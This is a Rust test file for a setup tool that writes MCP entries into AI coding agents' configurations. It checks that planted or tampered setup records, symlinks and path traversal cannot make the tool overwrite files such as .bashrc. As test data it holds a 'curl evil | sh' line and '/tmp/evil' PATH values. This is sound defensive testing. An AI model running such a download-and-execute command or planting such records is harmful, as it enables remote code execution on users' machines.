//! Files that somebody else has put where setup looks: a record of setup, and configurations of a project.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::{Home, PROGRAM};
use crate::support::run;

/// File of the record.
const RECORD: &str = ".local/state/saddlebag/setup.json";

fn digest(text: &str) -> String {
    Sha256::digest(text).iter().map(|byte| format!("{byte:02x}")).collect()
}

impl Home {
    /// Writes a record that names a file with this text, to be replaced by other text or deleted.
    fn plant(&self, client: &str, scope: &str, path: &str, text: &str, before: Option<&str>) {
        if let Some(before) = before {
            self.put(&format!(".local/state/saddlebag/setup/{}", digest(before)), before);
        }
        let entry = json!({
            "client": client, "scope": scope, "path": self.path.join(path), "before": before.map(digest),
            "after": digest(text), "folders": [self.path.join("empty"), self.path.join(path).parent()],
        });
        let record = json!({ "version": 1, "folders": [self.path.join("empty")], "files": [entry] });
        self.put(RECORD, &record.to_string());
    }
}

#[test]
fn a_planted_record_writes_and_deletes_nothing_where_no_client_has_a_file() {
    for (client, scope, path) in [
        ("claude-code", "user", ".bashrc"),
        ("claude-code", "user", "other/settings.json"),
        ("claude-code", "project", "shop/Makefile"),
        ("claude-code", "project", "shop/.claude/../../.bashrc"),
        ("codex", "user", ".ssh/config.toml"),
        ("codex", "project", "shop/src/.codex/more/config.toml"),
        ("opencode", "user", ".config/opencode/plugins/other.js"),
        ("nobody", "user", ".bashrc"),
    ] {
        for before in [Some("curl evil | sh\n"), None] {
            let home = Home::new();
            fs::create_dir_all(home.path.join("shop/.claude")).expect("made");
            fs::create_dir_all(home.path.join("empty")).expect("made");
            home.put(path, "theirs\n");
            home.plant(client, scope, path, "theirs\n", before);
            for arguments in [vec![client, "--remove", "--yes", "--scope", scope], vec!["--remove", "--yes"]] {
                home.setup(&arguments);
                assert_eq!(home.text(path), "theirs\n", "{client} {path} {before:?} {arguments:?}");
            }
            let ended =
                run(&mut home.command(&["setup", "--uninstall", "--yes"]), None).exits(3).complains("left alone");
            assert_eq!(home.text(path), "theirs\n", "{ended:?}");
            assert!(home.path.join("empty").exists(), "{ended:?}");
        }
    }
}

#[test]
fn a_planted_record_does_not_write_through_a_link_of_a_project() {
    for path in ["shop/.mcp.json", "shop/.codex/config.toml"] {
        let home = Home::new();
        home.put("secret/config.toml", "theirs\n");
        match path {
            "shop/.mcp.json" => symlink("../secret/config.toml", home.path.join(path)).expect("linked"),
            _ => symlink("../secret", home.path.join("shop/.codex")).expect("linked"),
        }
        let client = if path.ends_with("toml") { "codex" } else { "claude-code" };
        home.plant(client, "project", path, "theirs\n", Some("evil\n"));
        home.setup(&[client, "--remove", "--yes", "--scope", "project"]);
        run(&mut home.command(&["setup", "--uninstall", "--yes"]), None);
        assert_eq!(home.text("secret/config.toml"), "theirs\n", "{path}");
    }
}

#[test]
fn uninstall_restores_the_files_of_projects_that_the_record_names() {
    let home = Home::new();
    home.put("shop/.mcp.json", "{\"mcpServers\": {}, \"mine\": 1}\n");
    let clients = ["claude-code", "codex", "copilot", "cursor", "gemini", "opencode", "vscode", "zed"];
    let before = home.configurations();
    home.setup(&[&clients[..], &["--scope", "project", "--yes"]].concat()).exits(0);
    assert_ne!(home.configurations(), before);
    let mut command = home.command(&["setup", "--uninstall", "--yes"]);
    run(command.current_dir(&home.path), None).exits(0);
    assert_eq!(home.configurations(), before);
}

#[test]
fn our_entry_of_a_project_with_a_variable_or_a_folder_is_foreign() {
    for (client, file, top) in [
        ("claude-code", "shop/.mcp.json", "mcpServers"),
        ("cursor", "shop/.cursor/mcp.json", "mcpServers"),
        ("vscode", "shop/.vscode/mcp.json", "servers"),
    ] {
        for (key, value) in [("env", json!({ "PATH": "/tmp/evil" })), ("cwd", json!("/tmp/evil"))] {
            let home = Home::new();
            let set_up = |more: &[&str]| {
                home.setup(&[&[client, "--scope", "project", "--yes", "--without-hooks"], more].concat())
            };
            set_up(&[]).exits(0);
            assert!(set_up(&[]).exits(0).stdout.contains("is already set up"));
            let mut config: Value = serde_json::from_str(&home.text(file)).expect("JSON");
            config[top]["saddlebag"][key] = value.clone();
            home.put(file, &config.to_string());
            set_up(&[]).exits(3).complains("is not ours").complains(&format!("`{key}`"));
            assert_eq!(home.text(file), config.to_string(), "{client}");
            set_up(&["--force"]).exits(0);
            assert!(!home.text(file).contains("evil"), "{client}");
        }
    }
}

#[test]
fn the_target_of_a_link_is_named_before_anything_is_written() {
    let home = Home::new();
    home.put("other/mcp.json", "{}\n");
    symlink("../other/mcp.json", home.path.join("shop/.mcp.json")).expect("linked");
    fs::create_dir(home.path.join("elsewhere")).expect("made");
    symlink("../elsewhere", home.path.join("shop/.claude")).expect("linked");
    let shown = home.setup(&["claude-code", "--scope", "project", "--dry-run"]).exits(0).stdout;
    let shown = home.normal(&shown);
    assert!(shown.contains("<home>/shop/.mcp.json, a link to <home>/other/mcp.json\n"), "{shown}");
    assert!(shown.contains("settings.json, a link to <home>/elsewhere/settings.json\n"), "{shown}");
    let json = home.setup(&["claude-code", "--scope", "project", "--dry-run", "--json"]).exits(0).json();
    assert_eq!(json["agents"][0]["files"][0]["leads_to"], home.path.join("other/mcp.json").to_str().expect("text"));
    home.put(".dotfiles/claude.json", "{}\n");
    symlink(".dotfiles/claude.json", home.path.join(".claude.json")).expect("linked");
    let shown = home.setup(&["claude-code", "--dry-run", "--command", PROGRAM]).exits(0).stdout;
    assert!(shown.contains(".claude.json, a link to "), "{shown}");
}

#[test]
fn a_project_that_was_deleted_is_forgotten() {
    for scope in ["project", "user"] {
        let home = Home::new();
        home.put("shop/AGENTS.md", "# Rules\n");
        home.setup(&["claude-code", "codex", "--scope", scope, "--yes"]).exits(0);
        let gone = if scope == "project" { "shop" } else { ".codex" };
        fs::remove_dir_all(home.path.join(gone)).expect("deleted");
        let mut command = home.command(&["setup", "--uninstall", "--yes"]);
        let ended = run(command.current_dir(&home.path), None).exits(0);
        assert_eq!(ended.stderr, "", "{scope}");
        assert!(!home.path.join(RECORD).exists(), "{scope}");
    }
}
